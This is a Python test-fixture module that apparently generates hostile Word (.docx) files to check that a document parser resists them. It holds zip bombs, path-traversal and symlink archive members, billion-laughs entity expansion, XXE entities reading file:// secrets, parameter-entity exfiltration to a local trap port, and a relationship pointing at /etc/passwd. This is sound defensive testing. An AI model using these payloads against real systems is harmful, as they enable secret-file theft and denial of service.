"""Hostile Word files: bombs in the packing, entities and depth in the XML, numbers nobody means."""

from __future__ import annotations

import io
import struct
import warnings
import zipfile
from collections.abc import Callable, Mapping
from typing import Final

from tests.hostile.forged.shape import Forged, Trap, made
from tests.hostile.goodfiles import docx, paragraph, word_xml

_TEXT: Final = "测试文本。离职员工带走客户名单,双方签有保密协议。"
_GOOD: Final = word_xml(paragraph(_TEXT))
_MAIN: Final = "word/document.xml"
_ZEROS: Final = bytes(300 * 1024 * 1024)


def _docx(
    what: str,
    make: Callable[[Trap], bytes],
    refused: bool = False,
    name: str = "forged.docx",
) -> Forged:
    return made(f"docx:{what}", name, make, refused=refused)


def _xml(what: str, body: Callable[[], str], refused: bool = False) -> Forged:
    return _docx(what, lambda trap: docx(word_xml(body())), refused)


def _with(what: str, parts: Mapping[str, bytes], refused: bool = False) -> Forged:
    return _docx(what, lambda trap: docx(_GOOD, parts), refused)


def _declared(what: str, doctype: Callable[[Trap], str], body: str = "&e;") -> Forged:
    return _docx(
        what, lambda trap: docx(word_xml(paragraph(f"{_TEXT}{body}"), doctype(trap)))
    )


def _packed(
    parts: list[tuple[str, bytes]], method: int = zipfile.ZIP_DEFLATED
) -> bytes:
    """Pack parts as they come, names twice and all."""
    out = io.BytesIO()
    with (
        warnings.catch_warnings(),
        zipfile.ZipFile(io.BytesIO(docx(_GOOD))) as good,
        zipfile.ZipFile(out, "w", method) as archive,
    ):
        warnings.simplefilter("ignore")
        for name in good.namelist():
            archive.writestr(zipfile.ZipInfo(name), good.read(name), method)
        for name, data in parts:
            info = zipfile.ZipInfo("x")
            info.filename = name
            archive.writestr(info, data, method)
    return out.getvalue()


def _lying(data: bytes, field: int, value: int) -> bytes:
    """Write a value into a field (an offset there) of every entry of the central directory."""
    spoilt = bytearray(data)
    place = spoilt.find(b"PK\x01\x02")
    while place >= 0:
        width = "<H" if field in (8, 10) else "<I"
        struct.pack_into(width, spoilt, place + field, value)
        place = spoilt.find(b"PK\x01\x02", place + 4)
    return bytes(spoilt)


def _nested(levels: int) -> bytes:
    data = b"0" * 1_000_000
    for _ in range(levels):
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
            for number in range(8):
                archive.writestr(
                    zipfile.ZipInfo(f"{number}.zip"), data, zipfile.ZIP_DEFLATED
                )
        data = out.getvalue()
    return data


def _link(archive: bytes, target: str) -> bytes:
    out = io.BytesIO(archive)
    with zipfile.ZipFile(out, "a") as opened:
        info = zipfile.ZipInfo("word/settings.xml")
        info.external_attr = 0o120777 << 16
        opened.writestr(info, target)
    return out.getvalue()


_LAUGHS: Final = (
    '<!DOCTYPE d [<!ENTITY l0 "测试">'
    + "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    + '<!ENTITY e "&l9;">]>'
)
_BLOWUP: Final = f'<!DOCTYPE d [<!ENTITY e "{"测" * 60_000}">]>'

_PACKING: Final = (
    _docx(
        "三百兆的零",
        lambda trap: docx(_GOOD, {"word/media/x.bin": _ZEROS}),
        refused=True,
    ),
    _docx(
        "正文三百兆的空格",
        lambda trap: docx(word_xml(paragraph(_TEXT) + " " * 300_000_000)),
        refused=True,
    ),
    _docx(
        "目录里写的大小是假的",
        lambda trap: _lying(docx(_GOOD, {"word/media/x.bin": _ZEROS}), 24, 10),
    ),
    _docx(
        "正文很大而目录里写十字节",
        lambda trap: _lying(
            docx(word_xml(paragraph(_TEXT) + " " * 300_000_000)), 24, 10
        ),
        refused=True,
    ),
    _docx(
        "层层压缩包", lambda trap: docx(_GOOD, {"word/embeddings/x.zip": _nested(5)})
    ),
    _docx(
        "六万个成员",
        lambda trap: _packed([(f"word/media/{n}", b"") for n in range(60_000)]),
    ),
    _docx(
        "成员名是路径",
        lambda trap: _packed(
            [("../../../../tmp/kbx7", b"x"), ("/etc/kbx7", b"x"), ("C:\\kbx7", b"x")]
        ),
    ),
    _docx(
        "成员名有 NUL 与换行",
        lambda trap: _packed([("word/a\x00b.xml", b"x"), ("word/a\nb.xml", b"x")]),
    ),
    _docx(
        "正文两份",
        lambda trap: _packed([(_MAIN, word_xml(paragraph("测试文本另一份")).encode())]),
    ),
    _docx("符号链接成员", lambda trap: _link(docx(_GOOD), str(trap.secret))),
    _docx("标为加密", lambda trap: _lying(docx(_GOOD), 8, 1), refused=True),
    _docx("不认识的压缩方法", lambda trap: _lying(docx(_GOOD), 10, 99), refused=True),
    _docx(
        "LZMA 压缩",
        lambda trap: _packed(
            [("word/media/x.bin", b"0" * 30_000_000)], zipfile.ZIP_LZMA
        ),
    ),
    _docx(
        "成员位置在文件之外",
        lambda trap: _lying(docx(_GOOD), 42, 0xFFFFFF00),
        refused=True,
    ),
    _docx("成员位置都相同", lambda trap: _lying(docx(_GOOD), 42, 0), refused=True),
    _docx("只有压缩包的头", lambda trap: b"PK\x03\x04" + bytes(100), refused=True),
    _docx("空的压缩包", lambda trap: b"PK\x05\x06" + bytes(18), refused=True),
    _docx("前面有别的内容", lambda trap: b"%PDF-1.7\n" + docx(_GOOD), refused=True),
    _docx("后面有别的内容", lambda trap: docx(_GOOD) + b"x" * 70_000),
    _docx(
        "普通压缩包",
        lambda trap: _packed([])[:0] + _zip_of({"a.txt": b"x"}),
        refused=True,
    ),
    _docx(
        "旧版文档",
        lambda trap: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4000),
        refused=True,
    ),
    _docx("扩展名是 doc", lambda trap: docx(_GOOD), refused=True, name="forged.doc"),
    _docx("扩展名是 zip", lambda trap: docx(_GOOD), refused=True, name="forged.zip"),
    _docx("扩展名是 pdf", lambda trap: docx(_GOOD), refused=True, name="forged.pdf"),
)


def _zip_of(parts: Mapping[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, data in parts.items():
            archive.writestr(zipfile.ZipInfo(name), data)
    return out.getvalue()


def _outside(trap: Trap) -> bytes:
    relations = "http://schemas.openxmlformats.org/package/2006/relationships"
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
    targets = (
        f"file://{trap.secret}",
        f"http://127.0.0.1:{trap.port}/x.dotm",
        "../../../../etc/passwd",
        "/word/document.xml",
    )
    links = "".join(
        f'<Relationship Id="r{n}" Type="{kind}" Target="{target}" TargetMode="External"/>'
        for n, target in enumerate(targets)
    )
    return docx(
        _GOOD,
        {
            "word/_rels/document.xml.rels": f'<Relationships xmlns="{relations}">{links}</Relationships>'.encode()
        },
    )


def _self_related(trap: Trap) -> bytes:
    relations = "http://schemas.openxmlformats.org/package/2006/relationships"
    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    link = (
        f'<Relationship Id="r1" Type="{office}/officeDocument" Target="document.xml"/>'
    )
    return docx(
        _GOOD,
        {
            "word/_rels/document.xml.rels": f'<Relationships xmlns="{relations}">{link}</Relationships>'.encode()
        },
    )


def _cell(text: str, properties: str = "") -> str:
    return f"<w:tc><w:tcPr>{properties}</w:tcPr>{paragraph(text)}</w:tc>"


def _table(cells: str, grid: str = "") -> str:
    return f"<w:tbl><w:tblPr/><w:tblGrid>{grid}</w:tblGrid><w:tr>{cells}</w:tr></w:tbl>"


_CONTENT: Final = (
    _declared("实体炸弹", lambda trap: _LAUGHS),
    _declared("平方膨胀", lambda trap: _BLOWUP, "&e;" * 2000),
    _declared(
        "外部实体读文件",
        lambda trap: f'<!DOCTYPE d [<!ENTITY e SYSTEM "file://{trap.secret}">]>',
    ),
    _declared(
        "外部实体连网络",
        lambda trap: (
            f'<!DOCTYPE d [<!ENTITY e SYSTEM "http://127.0.0.1:{trap.port}/e">]>'
        ),
    ),
    _declared(
        "外部文档类型",
        lambda trap: f'<!DOCTYPE d SYSTEM "http://127.0.0.1:{trap.port}/d.dtd">',
        "",
    ),
    _declared(
        "参数实体",
        lambda trap: (
            f'<!DOCTYPE d [<!ENTITY % p SYSTEM "file://{trap.secret}"><!ENTITY % q "<!ENTITY e SYSTEM \'http://127.0.0.1:{trap.port}/%p;\'>">%q;]>'
        ),
    ),
    _declared("实体指向自己", lambda trap: '<!DOCTYPE d [<!ENTITY e "&e;">]>'),
    _docx("关系指向外面", _outside),
    _docx("关系指向自己", _self_related),
    _xml(
        "嵌套十万层", lambda: "<w:p>" * 100_000 + paragraph(_TEXT) + "</w:p>" * 100_000
    ),
    _xml("表中有表三百层", lambda: _tables(300)),
    _xml("五十万个空段落", lambda: "<w:p/>" * 500_000 + paragraph(_TEXT)),
    _xml("五万个单元格一行", lambda: _table(_cell("测") * 50_000) + paragraph(_TEXT)),
    _xml(
        "跨十亿列的单元格",
        lambda: _table(_cell(_TEXT, '<w:gridSpan w:val="1000000000"/>')),
    ),
    _xml("跨负数列的单元格", lambda: _table(_cell(_TEXT, '<w:gridSpan w:val="-5"/>'))),
    _xml("列数不是数", lambda: _table(_cell(_TEXT, '<w:gridSpan w:val="x"/>'))),
    _xml(
        "向上合并的首行", lambda: _table(_cell(_TEXT, "<w:vMerge/>")) + paragraph(_TEXT)
    ),
    _xml("一段一兆的文字", lambda: paragraph("测试文本" * 300_000)),
    _xml(
        "一百万个制表符",
        lambda: (
            "<w:p><w:r>" + "<w:tab/>" * 1_000_000 + f"</w:r></w:p>{paragraph(_TEXT)}"
        ),
    ),
    _xml(
        "文字里有标记", lambda: paragraph("&lt;script&gt;kbx7()&lt;/script&gt;" + _TEXT)
    ),
    _xml("没有文字", lambda: "<w:p/>", refused=True),
    _with("没有正文部分", {_MAIN: b""}, refused=True),
    _with("正文不是 XML", {_MAIN: b"%PDF-1.7"}, refused=True),
    _with("正文根元素不对", {_MAIN: b"<html><body>x</body></html>"}, refused=True),
    _with(
        "正文是 UTF-16",
        {
            _MAIN: _GOOD.replace('encoding="UTF-8"', 'encoding="UTF-16"').encode(
                "utf-16"
            )
        },
    ),
    _with(
        "正文声明的编码不存在",
        {_MAIN: _GOOD.replace("UTF-8", "UTF-9000").encode()},
        refused=True,
    ),
    _with("没有内容类型", {"[Content_Types].xml": b""}, refused=True),
    _with(
        "内容类型说是表格",
        {
            "[Content_Types].xml": b"<Types xmlns='http://schemas.openxmlformats.org/package/2006/content-types'><Default Extension='xml' ContentType='application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml'/></Types>"
        },
        refused=True,
    ),
    _with(
        "根关系指向没有的部分",
        {
            "_rels/.rels": docx(_GOOD)[:0]
            + b"<Relationships xmlns='http://schemas.openxmlformats.org/package/2006/relationships'><Relationship Id='r' Type='http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument' Target='none.xml'/></Relationships>"
        },
        refused=True,
    ),
)


def _tables(levels: int) -> str:
    inner = paragraph(_TEXT)
    for _ in range(levels):
        inner = f"<w:tbl><w:tblPr/><w:tblGrid/><w:tr><w:tc>{inner}<w:p/></w:tc></w:tr></w:tbl>"
    return inner


FORGED: Final[tuple[Forged, ...]] = (*_PACKING, *_CONTENT)
